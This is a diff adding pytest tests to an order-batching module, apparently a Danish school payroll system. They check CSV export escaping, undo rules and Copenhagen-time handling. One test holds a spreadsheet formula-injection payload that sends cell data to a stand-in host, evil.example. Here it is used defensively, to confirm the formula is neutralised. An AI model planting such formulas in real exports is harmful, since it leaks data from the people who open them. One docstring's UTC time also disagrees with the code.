@@ -139,3 +139,37 @@ def test_people_exempt_from_digital_post_are_set_aside_for_paper_consent(
     assert OrderLine.objects.get(pk=paper[0].pk).status == "ordered"
     with pytest.raises(OrderError):
         batching.mark_line_ordered_on_paper(line=paper[0], by=payroll)
+
+
+def test_the_csv_cannot_carry_a_spreadsheet_formula(school, teacher, school_manager, payroll):
+    order_for(unit=school, profile=teacher, by=school_manager,
+              name='=HYPERLINK("https://evil.example/?"&A2;"Sofie")')
+    batch = batching.prepare_batches(by=payroll)[0]
+    import csv
+
+    rows = list(csv.reader(batching.batch_csv(batch, batching.batch_lines(batch)).splitlines(),
+                           delimiter=";"))
+    assert rows[1][1].startswith("'=HYPERLINK")
+
+
+def test_undo_is_refused_when_a_line_has_moved_on(school, teacher, school_manager, payroll):
+    order_for(unit=school, profile=teacher, by=school_manager)
+    batch = batching.prepare_batches(by=payroll)[0]
+    batching.mark_batch_ordered(batch=batch, by=payroll)
+    OrderLine.objects.filter(batch=batch).update(status="in_review")
+    with pytest.raises(OrderError):
+        batching.undo_batch_ordered(batch=batch, by=payroll)
+    assert set(OrderLine.objects.filter(batch=batch).values_list("status", flat=True)) == {
+        "in_review"}
+
+
+def test_undo_uses_the_copenhagen_day(school, teacher, school_manager, payroll):
+    """Marked at 00:30 Copenhagen time (23:30 UTC the day before): undo works that day."""
+    order_for(unit=school, profile=teacher, by=school_manager)
+    batch = batching.prepare_batches(by=payroll)[0]
+    just_after_midnight = datetime.datetime(2026, 6, 10, 22, 30, tzinfo=datetime.UTC)
+    with time_machine.travel(just_after_midnight, tick=False):
+        batching.mark_batch_ordered(batch=batch, by=payroll)
+    with time_machine.travel(just_after_midnight + datetime.timedelta(hours=20), tick=False):
+        batching.undo_batch_ordered(batch=batch, by=payroll)
+    assert OrderLine.objects.get(batch=batch).status == "new"
